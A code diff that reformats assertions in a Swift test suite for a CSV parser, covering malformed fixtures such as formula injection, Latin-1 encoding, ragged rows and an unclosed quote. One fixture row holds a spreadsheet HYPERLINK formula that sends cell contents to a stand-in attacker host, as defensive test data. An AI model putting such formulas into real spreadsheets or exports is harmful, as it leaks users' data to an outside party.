@@ -121,10 +121,12 @@ struct CSVFixtureTests {
         let outcome = try read("malformed/formula_injection.csv")
         #expect(outcome.failure == nil)
         #expect(outcome.warnings.isEmpty)
-        #expect(outcome.rows == [
-            ["=HYPERLINK(\"http://evil.example/?\"&A1)", "Smith", "x@example.com", "2015550123"],
-            ["+SUM(1+1)", "@cmd", "y@example.com", "2015550124"],
-        ])
+        #expect(
+            outcome.rows == [
+                ["=HYPERLINK(\"http://evil.example/?\"&A1)", "Smith", "x@example.com", "2015550123"],
+                ["+SUM(1+1)", "@cmd", "y@example.com", "2015550124"],
+            ]
+        )
     }
 
     @Test("header_only.csv: a header, zero rows, no error")
@@ -141,10 +143,12 @@ struct CSVFixtureTests {
         let outcome = try read("malformed/latin1.csv")
         #expect(outcome.failure == nil)
         #expect(outcome.encoding == .windows1252)
-        #expect(outcome.rows == [
-            ["José", "Muñoz", "jose@example.com"],
-            ["René", "Ç", "rene@example.com"],
-        ])
+        #expect(
+            outcome.rows == [
+                ["José", "Muñoz", "jose@example.com"],
+                ["René", "Ç", "rene@example.com"],
+            ]
+        )
         #expect(outcome.warnings.map(\.kind) == [.encodingFallback])
         let warning = try #require(outcome.warnings.first)
         #expect(warning.severity == .warning)
@@ -169,11 +173,13 @@ struct CSVFixtureTests {
     func raggedRows() throws {
         let outcome = try read("malformed/ragged_rows.csv")
         #expect(outcome.failure == nil)
-        #expect(outcome.rows == [
-            ["Ana", "Diaz", "ana@example.com", "2015550123"],
-            ["Ben", "Smith", "", ""],
-            ["Eve", "Ito", "eve@example.com", "2015550199", "EXTRA", "MORE"],
-        ])
+        #expect(
+            outcome.rows == [
+                ["Ana", "Diaz", "ana@example.com", "2015550123"],
+                ["Ben", "Smith", "", ""],
+                ["Eve", "Ito", "eve@example.com", "2015550199", "EXTRA", "MORE"],
+            ]
+        )
         let records = outcome.records
         #expect(records[0].issues.isEmpty)
 
@@ -219,8 +225,10 @@ struct CSVFixtureTests {
         #expect(issue.line == 3)
         #expect(issue.recordNumber == 2)
         #expect(issue.column == 1)
-        #expect(issue.message == "line 3 (record 2): the quote that opens field 1 is never closed, so everything "
-            + "up to the end of the file was read into this field; add the missing closing quote")
+        #expect(
+            issue.message == "line 3 (record 2): the quote that opens field 1 is never closed, so everything "
+                + "up to the end of the file was read into this field; add the missing closing quote"
+        )
         #expect(outcome.warnings == [issue])
     }
 
